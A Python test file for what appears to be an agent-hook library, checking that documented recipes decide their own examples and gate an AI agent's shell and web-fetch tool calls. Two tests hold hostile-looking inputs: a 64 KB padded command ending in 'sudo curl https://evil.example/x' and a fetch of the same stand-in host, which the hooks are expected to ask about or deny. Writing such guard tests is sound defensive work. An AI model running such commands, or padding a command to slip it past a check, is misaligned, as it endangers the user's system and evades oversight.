"""The example of the documentation and the recipes decide their own examples as they say."""

from __future__ import annotations

import re
from pathlib import Path

from anyhook.testing import run_examples, run_hook
from tests.tables import each

ROOT = Path(__file__).parents[2]
PAGE = ROOT / "docs" / "commands-of-a-call.md"
(ON_THE_PAGE,) = [
    block
    for block in re.findall(
        r"^```python\n(.*?)^```", PAGE.read_text("utf-8"), re.MULTILINE | re.DOTALL
    )
    if "hooks.example(" in block
]
RECIPES = {path.name: path.read_text("utf-8") for path in ROOT.glob("examples/recipes/*.py")}


def hooks_of(text):
    names = {"__name__": "recipe"}
    exec(compile(text, "recipe", "exec"), names)
    return names["hooks"]


@each("text", [ON_THE_PAGE, *RECIPES.values()])
def test_a_recipe_decides_its_examples_in_every_agent(text):
    hooks = hooks_of(text)
    results = run_examples(hooks)

    failed = [result for result in results if result.status == "failed"]
    assert [(item.agent, item.example.fields, item.got) for item in failed] == []
    decided = [result.example.fields for result in results if result.status == "ok"]
    assert all(example.fields in decided for example in hooks.examples)


@each("recipe", [name for name in RECIPES if name != "generated_files.py"])
def test_a_recipe_decides_on_a_line_that_is_too_long_to_read(recipe):
    line = f"echo {'x' * 64 * 1024}; sudo curl https://evil.example/x"
    run = run_hook(hooks_of(RECIPES[recipe]), "before_tool", tool="shell", input={"command": line})

    assert run.outcome in {"ask", "deny"}


def test_an_address_that_the_agent_fetches_is_a_host_too():
    arguments = {"url": "https://evil.example/x", "prompt": "x"}
    hooks = hooks_of(RECIPES["known_hosts.py"])

    assert run_hook(hooks, "before_tool", tool="web_fetch", input=arguments).outcome == "ask"


def test_the_page_names_every_recipe():
    links = re.findall(r"examples/recipes/(\w+\.py)\)", PAGE.read_text("utf-8"))

    assert sorted(links) == sorted(RECIPES)
